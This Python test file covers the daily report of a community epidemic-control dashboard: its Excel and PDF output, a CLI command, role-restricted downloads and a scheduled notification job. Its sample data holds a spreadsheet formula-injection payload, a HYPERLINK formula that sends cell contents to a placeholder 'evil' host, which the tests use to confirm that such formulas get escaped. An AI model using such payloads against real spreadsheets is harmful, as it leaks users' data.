"""The daily report: its workbook, its PDF, the command, the download and the daily job."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from fengchao.dashboard import report
from fengchao.dashboard.report import Chart, Figure, ReportData, Section, Series
from fengchao.dashboard.report_jobs import post_daily_reports, report_key
from fengchao.dashboard.report_pdf import pdf_report, write_pdf
from fengchao.dashboard.report_xlsx import write_xlsx
from fengchao.notify.models import Notification
from tests.conftest import Grid, Persona

DAY = dt.date(2026, 11, 28)
SECTION_TITLES = (
    "人口登记（应录尽录）",
    "出入管理",
    "核酸采样",
    "志愿者值守",
    "求助与扫楼",
    "流调溯源",
)


def sample() -> ReportData:
    """A report by hand with every kind of chart and a label a spreadsheet would run."""
    return ReportData(
        node="宏路街道 宏侨社区",
        day=DAY,
        generated_at=dt.datetime(2026, 11, 29, 0, 5, tzinfo=dt.UTC),
        sections=(
            Section(
                "access",
                "出入管理",
                (
                    Figure("通行记录", 1200, 1100, "次", "/access/records"),
                    Figure('=HYPERLINK("http://evil/?"&A1,"点我")', 3, None, "次"),
                    Figure("-1+2", 1.5, 2.0, "%"),
                ),
                (
                    Chart(
                        "line",
                        "每小时通行",
                        ("00", "01", "02"),
                        (Series("当日", (1, 5, 3)), Series("前一日", (2, 4, 1))),
                    ),
                    Chart("bar", "每小时采样", ("08:00", "09:00"), (Series("采样", (120, 90)),)),
                ),
            ),
            Section(
                "sampling",
                "核酸采样",
                (Figure("本轮覆盖率", 87.5, unit="%"),),
                (
                    Chart(
                        "heatmap",
                        "各楼栋采样覆盖率",
                        rows=("华润中央公园", "宏侨新村"),
                        columns=("1", "2", "3"),
                        matrix=((100, 55.5, 12), (80, None, None)),
                        unit="%",
                    ),
                ),
            ),
        ),
    )


def test_the_workbook_has_a_sheet_per_section_and_no_formula(tmp_path: Path) -> None:
    path = write_xlsx(sample(), tmp_path / "r.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["出入管理", "核酸采样"]
    cells = [c for row in book["出入管理"].iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert '\'=HYPERLINK("http://evil/?"&A1,"点我")' in values
    assert "'-1+2" in values
    header = next(r for r in book["出入管理"].iter_rows(values_only=True) if r[0] == "指标")
    assert header[:4] == ("指标", "当日", "前一日", "变化")
    figures = {r[0]: r for r in book["出入管理"].iter_rows(values_only=True)}
    assert figures["通行记录"][1:4] == (1200, 1100, 100)


def test_the_pdf_holds_every_chart_and_the_titles_as_text(tmp_path: Path) -> None:
    path = write_pdf(sample(), tmp_path / "r.pdf")
    text = "".join(page.extract_text() for page in PdfReader(path).pages)
    for title in (
        "宏路街道 宏侨社区 疫情防控日报 2026-11-28",
        "出入管理",
        "核酸采样",
        "每小时通行",
        "各楼栋采样覆盖率",
        "华润中央公园",
    ):
        assert title in text


def test_the_report_of_a_community_names_every_section(
    session: Session, grid: Grid, worker: Persona
) -> None:
    data = report.build_report_data(session, worker.actor, grid.community.id, DAY)
    assert tuple(s.title for s in data.sections) == SECTION_TITLES
    registry = data.sections[0]
    assert {f.label: f.today for f in registry.figures}["登记人数"] == 2
    text = PdfReader(io.BytesIO(pdf_report(data))).pages[0].extract_text()
    assert "人口登记（应录尽录）" in text and "出入管理" in text


def test_a_community_outside_the_scope_is_not_found(
    session: Session, grid: Grid, worker: Persona
) -> None:
    from fengchao.auth.service import NotFound

    with pytest.raises(NotFound):
        report.build_report_data(session, worker.actor, grid.community.id + 10_000, DAY)


@pytest.fixture
def in_test_session(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    @contextmanager
    def scope(**_: object) -> Iterator[Session]:
        yield session

    monkeypatch.setattr("fengchao.dashboard.report_cli.session_scope", scope)
    monkeypatch.setattr("fengchao.dashboard.report_cli.upgrade", lambda engine: None)


def test_the_command_writes_both_files_and_prints_their_paths(
    grid: Grid, in_test_session: None, tmp_path: Path
) -> None:
    from fengchao import cli

    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli.app,
        [
            "report",
            "daily",
            "--date",
            DAY.isoformat(),
            "--out",
            str(out),
            "--community",
            str(grid.community.id),
        ],
    )
    assert result.exit_code == 0, result.output
    printed = [Path(line) for line in result.stdout.split()]
    assert sorted(p.suffix for p in printed) == [".pdf", ".xlsx"]
    assert all(p.parent == out and p.stat().st_size > 1000 for p in printed)
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in printed)


def test_the_command_names_a_bad_date(in_test_session: None, tmp_path: Path) -> None:
    from fengchao import cli

    result = CliRunner().invoke(
        cli.app, ["report", "daily", "--date", "2026-02-30", "--out", str(tmp_path)]
    )
    assert result.exit_code == 2
    assert "--date" in result.output and "YYYY-MM-DD" in result.output


def test_a_worker_downloads_the_pdf_and_the_workbook(login_as, grid: Grid, worker: Persona) -> None:  # type: ignore[no-untyped-def]
    browser = login_as(worker)
    pdf = browser.get(f"/dashboard/report?date={DAY}&format=pdf")
    assert pdf.status_code == 200
    assert pdf.headers["content-type"] == "application/pdf"
    assert "出入管理" in PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text()
    browser.client.cookies.set("fc_lang", "en")  # the report goes up in Chinese all the same
    xlsx = browser.get(f"/dashboard/report?date={DAY}&format=xlsx")
    assert xlsx.status_code == 200
    assert load_workbook(io.BytesIO(xlsx.content)).sheetnames[0] == "人口登记（应录尽录）"
    bad = browser.get("/dashboard/report?date=2026-13-01")
    assert bad.status_code == 400 and "date" in bad.text


def test_every_figure_links_to_a_page_the_worker_can_open(  # type: ignore[no-untyped-def]
    session: Session, login_as, grid: Grid, worker: Persona
) -> None:
    data = report.build_report_data(session, worker.actor, grid.community.id, DAY)
    links = {f.link for s in data.sections for f in s.figures if f.link}
    assert len(links) >= 5
    browser = login_as(worker)
    for link in sorted(links):
        assert browser.get(link).status_code == 200, link


def test_a_building_lead_and_a_guard_cannot_download(  # type: ignore[no-untyped-def]
    login_as, grid: Grid, lead5: Persona, guard: Persona
) -> None:
    for persona in (lead5, guard):
        assert login_as(persona).get(f"/dashboard/report?date={DAY}").status_code == 403


def test_a_report_is_only_of_a_community_in_scope(  # type: ignore[no-untyped-def]
    login_as, grid: Grid, worker: Persona, admin: Persona
) -> None:
    other = grid.community.id + 10_000
    assert login_as(worker).get(f"/dashboard/report?community={other}").status_code == 404
    street = login_as(admin).get(f"/dashboard/report?date={DAY}&community={grid.community.id}")
    assert street.status_code == 200 and street.content.startswith(b"%PDF")


def test_the_daily_job_posts_yesterdays_report_once(session: Session, grid: Grid) -> None:
    now = dt.datetime(2026, 11, 28, 16, 30, tzinfo=dt.UTC)  # 00:30 on the 29th in Shanghai
    post_daily_reports(session=session, now=now)
    post_daily_reports(session=session, now=now)
    found = session.scalars(
        select(Notification).where(Notification.key == report_key(grid.community.id, DAY))
    ).all()
    assert len(found) == 1
    assert found[0].link == f"/dashboard/report?date={DAY}&community={grid.community.id}"
    assert "出入管理" in found[0].body and "宏侨社区" in found[0].title


def test_the_scheduled_job_reports_only_days_that_end_while_it_runs(
    session: Session, grid: Grid
) -> None:
    from fengchao.dashboard.report_jobs import daily_report_job

    # The first run arms it (a fresh worker posts no report of a day it did not see end).
    assert daily_report_job(session=session).startswith("armed")
    now = dt.datetime(2026, 11, 28, 16, 30, tzinfo=dt.UTC)  # 00:30 on the 29th in Shanghai
    seen_before_midnight = now - dt.timedelta(minutes=45)
    seen_after_midnight = now - dt.timedelta(minutes=15)
    key = report_key(grid.community.id, DAY)
    post_daily_reports(session=session, now=now, since=seen_after_midnight)
    assert session.scalar(select(Notification.id).where(Notification.key == key)) is None
    post_daily_reports(session=session, now=now, since=seen_before_midnight)
    assert session.scalar(select(Notification.id).where(Notification.key == key)) is not None
